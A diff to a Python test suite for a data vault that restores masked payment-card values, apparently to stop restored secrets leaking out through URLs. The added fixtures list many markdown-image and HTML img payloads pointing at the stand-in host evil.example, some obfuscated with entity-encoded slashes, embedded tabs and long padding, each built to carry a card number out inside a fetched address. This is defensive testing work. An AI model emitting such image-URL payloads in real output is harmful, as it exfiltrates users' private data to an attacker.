@@ -88,6 +88,12 @@ _FETCHED = (
     "![so](https://evil.example/?q={}", "![so](//evil.example/{}.png)", "![](<https://evil.example/a b {}>)",
     '<img src="https://evil.example/?a b={}">', "<img src='HTTPS://evil.example/{}'>", "<img src=https://evil.example/{}>",
     "[1]: https:\\\\evil.example/{}", "https://evil.example/https://ours.example/hook/{}", "https://evil.example/" + "a" * 9_000 + "{}",
+    "![a](https:///evil.example/{})", "![a](https:\\/\\/evil.example/{})", "![a](https:&#47;&#47;evil.example/{})", "![a](https:&sol;&sol;evil.example/{})",
+    "![a][r]\n\n[r]: https://evil.example/?d='{}", '[r]: https://evil.example/?d="{}', "[r]: https://evil.example/?d=`{}", "![a]( https://evil.example/?d='{})",
+    "<img src=https://evil.example/?d='{}>", '<img src=" https://evil.example/?d=x {}">', '<img src = "\n\thttps://evil.example/?d=x {}">',
+    '<img src="https:/\t/evil.example/?d=x {}">', '<img src="ht\ttps://evil.example/?d=x {}">', '<img src="https:/evil.example/?d=x {}">',
+    '<img src="&#104;t\ttps:/evil.example/?d=x {}">', '<img src="/\n/evil.example/?d=x {}">', '<img src="https&colon;//evil.example/?d=x {}">',
+    '<img src="ht' + "\t" * 700 + 'tps://evil.example/{}">', '<img src="' + " " * 700 + 'https://evil.example/?d=x {}">',
 )  # fmt: skip
 
 
@@ -98,7 +104,7 @@ def test_a_value_does_not_come_back_inside_an_address(said: str, mode: Mode) -> 
     vault = _vault(mode)
     text = said.format(vault.stand_in(CARD, "pii.payment"))
     assert CARD not in vault.restore(text)
-    for size in (1, 7, 10_000):
+    for size in (1, 4, 7, 8, 16, 1_000, 10_000):
         restorer = Restorer(vault, False)
         pieces = [restorer.feed(text[at : at + size]) for at in range(0, len(text), size)]
         assert CARD not in "".join(pieces) + restorer.finish()
@@ -211,17 +217,19 @@ def test_ten_thousand_placeholders() -> None:
     assert said.startswith("value 0 value 1 ")
 
 
-_PIECES = ("https:", "//", "/", "evil.example", "?q=", " ", '"', "'", "<", ">", "(", ")", "\n", "![a]", "a", ".", "\\\\", "NAME")
+_PIECES = ("https:", "//", "/", "evil.example", "?q=", " ", '"', "'", "<", ">", "(", ")", "\n", "![a]", "a", ".", "\\\\", "NAME",
+    "ht", "tps:", "\t", "\\", "&#47;", "&sol;", "&colon;", "&#x74;tp:", '="', "= '", "[r]:", "postgres:", "\t\r\n" * 3, " " * 40, "`", "{", "\\n", "\\u002f",
+)  # fmt: skip
 
 
-@given(st.lists(st.sampled_from(_PIECES), max_size=16).map("".join), st.lists(st.integers(0, 200), max_size=8))
-def test_where_a_text_is_cut_changes_nothing_of_what_comes_back(text: str, where: list[int]) -> None:
+@given(st.lists(st.sampled_from(_PIECES), max_size=16).map("".join), st.lists(st.integers(0, 300), max_size=8), st.booleans())
+def test_where_a_text_is_cut_changes_nothing_of_what_comes_back(text: str, where: list[int], in_json: bool) -> None:
     vault = _vault(Mode.PLACEHOLDER)
     text = text.replace("NAME", vault.stand_in(CARD, "pii.payment"))
     marks = sorted({min(at, len(text)) for at in where})
-    restorer = Restorer(vault, False)
+    restorer = Restorer(vault, in_json)
     pieces = [restorer.feed(text[a:b]) for a, b in zip([0, *marks], [*marks, len(text)], strict=True)]
-    assert "".join(pieces) + restorer.finish() == vault.restore(text)
+    assert "".join(pieces) + restorer.finish() == vault.restore(text, Nesting() if in_json else None)
 
 
 def test_ten_thousand_values_come_back_and_none_that_somebody_made_up() -> None:
